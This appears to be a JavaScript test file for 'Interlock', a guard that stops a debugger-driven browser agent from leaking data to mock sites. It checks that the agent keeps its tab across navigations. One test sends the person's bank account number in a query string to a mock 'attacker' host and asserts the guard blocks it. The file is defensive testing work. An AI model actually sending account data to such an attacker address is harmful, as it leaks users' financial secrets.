// An agent extension that attaches its debugger once, as products do: it keeps its tab however often a navigation is held.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { debuggerAgentHands } from '../agents/extension-agent.mjs';
import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
import { SECRETS, sharedBrowser } from '../attacks/attempt.mjs';
import { leaked } from '../sites/leaks.mjs';
import { PERSON, urlOf } from '../sites/world.mjs';
import { extension } from './with-guard.mjs';

const [DESK, WIDGET] = ['desk.example', 'widget.example'];
const NUMBER = PERSON.account.replaceAll(' ', '');
const answer = (body) => ({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body });
const late = `<script>setTimeout(()=>{const f=document.createElement('iframe');f.src='http://${WIDGET}/';document.body.append(f)},1500)</script>`;
let seen = 0;
const extra = {
  [DESK]: ({ path }) =>
    answer(`<!doctype html><title>Desk</title><p>Front desk ${path}</p>${path === '/late' ? late : ''}`),
  [WIDGET]: () => {
    seen += 1;
    return answer('<!doctype html><p>Widget');
  },
};

describe('an agent by an extension’s debugger', () => {
  const shared = sharedBrowser(debuggerAgentHands, { extension, extra });
  let scene;
  /** What its first way through a page of ours costs it, once in a browser’s life. */
  let first;
  const losses = () => scene.hands.call('losses');
  const shows = (text) => until(async () => (await scene.hands.read()).includes(text), text);
  before(async () => {
    scene = await shared.scene();
    await signInToBank(scene.hands, scene.world);
    await readBalance(scene.hands, scene.memory);
    for (let hops = 0; hops < 4; hops++) {
      const earlier = await losses();
      await scene.hands.goto(hops % 2 ? `http://${DESK}/` : urlOf('shop'));
      await shows(hops % 2 ? 'Front desk' : 'Things for the table');
      await scene.hands.wait(500);
      if (earlier > 0 && (await losses()) === earlier) break;
    }
    first = await losses();
    assert.ok(first > 0, 'nothing was held');
  });
  after(() => shared.close());

  test('goes on to other sites and keeps its tab, its place in the page and all', { timeout: 60_000 }, async () => {
    for (const path of ['/a', '/b?c=1', '/d#/inbox']) {
      await scene.hands.goto(`http://${DESK}${path}`);
      await shows(`Front desk ${path.split(/[?#]/)[0]}`);
      assert.equal(await scene.hands.url(), `http://${DESK}${path}`);
      await scene.hands.goto(urlOf('shop'));
      await shows('Things for the table');
    }
    assert.equal(await losses(), first, 'it lost its tab again');
  });

  test('keeps it where a page opens a frame of another site late, and the frame comes', {
    timeout: 60_000,
  }, async () => {
    seen = 0;
    await scene.hands.goto(`http://${DESK}/late`);
    await until(async () => seen > 0, 'the frame', 10_000);
    assert.equal(await losses(), first, 'it lost its tab to the frame');
  });

  test('reads why its navigation was stopped, sends nothing, and goes on', { timeout: 60_000 }, async () => {
    await scene.hands.goto(urlOf('attacker', `/c?d=${NUMBER}`));
    await shows('Stopped by Interlock');
    assert.deepEqual(leaked(scene.sites.collector.records, SECRETS), []);
    await scene.hands.goto(`http://${DESK}/on`);
    await shows('Front desk /on');
    assert.equal(await losses(), first, 'it lost its tab to the page that said why');
  });

  test('comes back past the page in which it waited', { timeout: 60_000 }, async () => {
    await scene.hands.goto(`http://${DESK}/one`);
    await shows('Front desk /one');
    await scene.hands.goto(urlOf('shop'));
    await shows('Things for the table');
    await scene.hands.run('history.back()');
    await shows('Front desk /one');
  });
});
